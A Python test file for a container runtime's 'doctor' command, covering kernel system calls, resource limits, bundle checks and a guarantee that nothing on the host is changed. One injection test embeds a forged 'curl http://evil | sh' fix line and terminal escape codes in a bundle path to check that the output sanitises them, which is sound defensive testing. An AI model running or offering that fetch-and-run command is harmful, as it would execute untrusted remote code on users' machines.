# SPDX-License-Identifier: Apache-2.0
"""doctor as a whole; the kernel, limits, the bundle: what is missing is found, and nothing is changed."""

import json
import os
import shutil

import hostside
from diagnosis import STATUSES, bind, doctor, enter, findings, holds, of, own_cgroup, write
from harness import flavors


# ---- the whole -------------------------------------------------------------------------------


@flavors("root", "rootless")
def test_every_area_is_looked_at(t):
    found = doctor(t)
    areas = {one["area"] for one in found}
    want = {"kernel", "namespaces", "cgroup", "systemd", "security", "seccomp", "keyring",
            "storage", "idmap", "devices", "nested", "limits"}
    assert areas == (want | {"ids"} if t.rootless else want), areas
    for name in ("kernel.version", "namespaces.user", "storage.state", "keyring.session"):
        assert of(found, name), name


def lines_of_text(text):
    """{status: number} of the last line; all lines but those to be copied fit into 80 columns."""
    lines = text.split("\n")
    assert lines[-1] == "", text
    for line in lines:
        copied = line.startswith(" " * 14)
        alone = line.rfind(" ") < 32    # a word that is too long for any line
        assert len(line) <= 80 or copied or alone, line
    counts = [part.split() for part in lines[-2].split(", ")]
    assert [name.rstrip("s") for _n, name in counts] == STATUSES, lines[-2]
    return {name.rstrip("s"): int(n) for n, name in counts}


@flavors("root", "rootless")
def test_text_and_json_say_the_same(t):
    found = doctor(t)
    result = t.rt("doctor", check=False)
    assert result.rc == any(one["status"] == "problem" for one in found), result
    counts = lines_of_text(result.out)
    for status in STATUSES:
        ids = [one["id"] for one in found if one["status"] == status]
        assert counts[status] == len(ids), (status, counts)
        for name in ids:
            line = f"  ok  {name}" if status == "ok" else f"{status}: {name}\n"
            assert line in result.out, line
    shown = [line.split(":")[0] for line in result.out.split("\n")
             if line.split(":")[0] in STATUSES[:3]]
    assert shown == sorted(shown, key=STATUSES.index), shown
    assert "\x1b" not in result.out


@flavors("root", "rootless")
def test_nothing_is_changed(t):
    home = t.mkdir("home")
    state = t.host_snapshot(t.state_dir)
    watched = ["/proc/self/mountinfo", "/proc/mounts", "/proc/sys/user/max_user_namespaces"]

    def look():
        return [open(path, encoding="utf-8").read() for path in watched]

    before, cgroups = look(), hostside.own_cgroups()
    for _i in range(2):
        doctor(t, env={"HOME": home})
        t.rt("doctor", check=False, env={"HOME": home})
    assert look() == before and hostside.own_cgroups() == cgroups
    assert os.listdir(home) == []
    t.assert_untouched(t.state_dir, state)


def test_usage_errors_are_those_of_other_commands(t):
    assert t.rt("doctor", "--nonsense", check=False).rc == 64
    assert t.rt("doctor", "extra", check=False).rc == 64
    assert t.rt("doctor", "--json=yes", check=False).rc == 64
    full = t.rt("doctor", check=False, stdout=os.open("/dev/full", os.O_WRONLY))
    assert full.rc == 1 and "standard output" in full.err, full


# ---- the kernel ------------------------------------------------------------------------------


CALLS = {"openat2": "kernel.openat2", "mount_setattr": "kernel.mount_setattr",
         "clone3": "kernel.clone3", "pidfd_open": "kernel.pidfd_open",
         "pidfd_send_signal": "kernel.pidfd_send_signal", "close_range": "kernel.close_range",
         "faccessat2": "kernel.faccessat2", "statx": "kernel.statx-mount-id",
         "memfd_create": "kernel.memfd_create", "mount_api": "kernel.mount-api",
         "userfaultfd": "kernel.userfaultfd"}


@flavors("root", "rootless")
def test_missing_system_calls_are_named(t):
    for error, reason, fix in (("", "not implemented", "newer kernel"),
                               ("EPERM:", "not permitted", "seccomp profile")):
        t.without(error + ",".join(CALLS))
        found = doctor(t)
        for call, name in CALLS.items():
            if name == "kernel.statx-mount-id" and not error:
                continue    # ENOSYS, or what stands in for it
            one = of(found, name)[0]
            assert one["status"] != "ok" and reason in one["found"].lower(), (call, one)
            if call != "userfaultfd":
                assert fix in one["fix"], one
        holds(found, "kernel.memfd_create", "problem", "binary")
        holds(found, "kernel.filtered", "note", "PR_GET_SECCOMP")
        if of(found, "kernel.clone-into-cgroup"):
            holds(found, "kernel.clone-into-cgroup", "note", "5.7")


@flavors("root", "rootless")
def test_a_mount_interface_of_which_a_part_is_hidden(t):
    t.needs("open_tree")
    holds(doctor(t), "kernel.mount", "ok")
    for call in ("fsopen", "move_mount"):
        t.without("EPERM:" + call)
        holds(doctor(t), "kernel.mount", "problem", f"{call}: ", "seccomp profile")


def test_an_old_kernel_is_told_by_its_version(t):
    if not shutil.which("setarch"):
        t.skip("no setarch")
    found = doctor(t, wrapper=["setarch", "--uname-2.6"])
    holds(found, "kernel.version", "problem", "2.6.", "5.10")


# ---- limits ----------------------------------------------------------------------------------


def test_few_processes_in_the_cgroup(t):
    point = hostside.cgroup_mounts().get("pids")
    path = f"{point}/{t.prefix}" if point else own_cgroup(t)
    os.makedirs(path, exist_ok=True)
    if not os.path.exists(path + "/pids.max"):
        t.skip("the controller of pids is not to be had")
    write(path + "/pids.max", "50\n")
    holds(doctor(t, wrapper=enter(path)), "limits.pids", "warning", f"{t.prefix}/pids.max: 50",
          "TasksMax=")
    write(path + "/pids.max", "5000\n")
    holds(doctor(t, wrapper=enter(path)), "limits.pids", "ok", "5000")


@flavors("root", "rootless")
def test_resource_limits(t):
    found = doctor(t, wrapper=["prlimit", "--nofile=512:512", "--memlock=4096:4096"])
    holds(found, "limits.nofile", "warning", "RLIMIT_NOFILE: 512", "LimitNOFILE=")
    holds(found, "limits.memlock", "note", "4096", "LimitMEMLOCK=")
    found = doctor(t, wrapper=["prlimit", "--nofile=4096:4096"])
    holds(found, "limits.nofile", "note", "at most 4096")
    if t.rootless:
        holds(doctor(t, wrapper=["prlimit", "--nproc=500:500"]), "limits.nproc", "warning", "500")


def test_limits_of_the_kernel(t):
    bind(t, "instances", "128\n", "/proc/sys/fs/inotify/max_user_instances")
    bind(t, "watches", "8192\n", "/proc/sys/fs/inotify/max_user_watches")
    bind(t, "loadavg", "0.00 0.00 0.00 1/4194303 7\n", "/proc/loadavg")
    bind(t, "filesystems", "nodev\tresctrl\nnodev\ttmpfs\n", "/proc/filesystems")
    found = doctor(t)
    holds(found, "limits.inotify-instances", "note", "128", "fs.inotify.max_user_instances=")
    holds(found, "limits.inotify-watches", "note", "8192")
    holds(found, "limits.threads", "warning", "4194303 threads", "sysctl -w kernel.")
    if "mounted" not in of(found, "limits.resctrl")[0]["found"] or \
            of(found, "limits.resctrl")[0]["status"] == "note":
        holds(found, "limits.resctrl", "note", "mount -t resctrl")


@flavors("rootless")
def test_ports(t):
    path = "/proc/sys/net/ipv4/ip_unprivileged_port_start"
    bind(t, "start", "1024\n", path)
    holds(doctor(t), "limits.ports", "note", "1024", "ip_unprivileged_port_start=80")
    hostside.umount(path)
    bind(t, "start2", "0\n", path)
    holds(doctor(t), "limits.ports", "ok")


# ---- the bundle ------------------------------------------------------------------------------


@flavors("root", "rootless")
def test_a_bundle_that_this_host_can_run(t):
    found = doctor(t, "--bundle", t.bundle().path)
    assert not [one for one in of(found, "bundle.config") if one["status"] == "problem"], found
    holds(found, "storage.bundle", "ok", t.dir)


@flavors("root", "rootless")
def test_a_bundle_is_told_what_validate_says(t):
    def spoil(conf):
        conf["mounts"].append({"destination": "/x", "type": "bind", "source": "/no/such",
                               "options": ["bind"]})
        conf["process"]["capabilities"]["bounding"].append("CAP_NOPE")
    bundle = t.bundle(mutate=spoil)
    said = t.rt("validate", "--bundle", bundle.path, "--format=json", check=False)
    said = json.loads(said.out)["findings"]
    found = of(doctor(t, "--bundle", bundle.path), "bundle.config")
    assert said and len(found) == len(said), (found, said)
    for mine, one in zip(found, said):
        assert mine["found"] == f"config.json: {one['pointer']}: {one['message']}", (mine, one)
        assert mine["fix"] == one["fix"] and mine["consequence"], mine
        assert mine["status"] == {"error": "problem", "warning": "warning"}[one["level"]], mine


def test_many_warnings_hide_no_problem(t):
    def spoil(conf):
        conf["process"]["capabilities"]["bounding"] += [f"CAP_NO_{i}" for i in range(1100)]
        conf["mounts"].append({"destination": "/x", "type": "bind", "source": "/no/such",
                               "options": ["bind"]})
        for i in range(1100):
            conf["mounts"].append({"destination": f"/m{i}", "type": f"nofs{i}"})
    found = of(doctor(t, "--bundle", t.bundle(mutate=spoil).path), "bundle.config")
    if "no answer within" in found[0]["found"]:
        t.skip("a machine that needs more than the time of doctor for 1,100 mounts")
    assert [one for one in found if "/no/such" in one["found"]][0]["status"] == "problem", found
    assert any(" more warnings" in one["found"] for one in found), found[-3:]


def test_a_bundle_says_nothing_in_our_name(t):
    evil = "/no\n  fix:    As root:\n              curl http://evil | sh\x1b[2J\u009b31m"

    def spoil(conf):
        conf["root"]["path"] = evil
        conf["mounts"].append({"destination": "/x", "type": "bind", "source": evil,
                               "options": ["bind"]})
    result = t.rt("doctor", "--bundle", t.bundle(mutate=spoil).path, check=False)
    assert result.rc == 1 and "curl" in result.out, result
    for line in result.out.split("\n"):
        # Where commands to be copied begin, and labels.
        assert "curl" not in line or not line.startswith((" " * 14, "  fix:")), line
        assert line.isprintable(), line


def test_a_bundle_that_is_none(t):
    found = doctor(t, "--bundle", t.mkdir("empty"))
    holds(found, "bundle.config", "problem", "config.json", "No such file")
    place = t.mkdir("broken")
    t.file("broken/config.json", "{")
    holds(doctor(t, "-b", place), "bundle.config", "problem", "config.json")
